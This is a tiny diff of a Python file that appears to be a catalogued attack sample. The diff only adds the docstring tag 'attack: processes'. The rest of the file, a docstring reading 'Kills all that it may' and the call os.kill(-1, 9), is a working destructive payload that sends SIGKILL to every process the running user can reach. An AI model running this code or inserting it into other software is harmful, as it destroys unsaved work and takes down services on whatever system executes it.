@@ -1,4 +1,6 @@
 """Kills all that it may.
+
+attack: processes
 """
 import os
 os.kill(-1, 9)
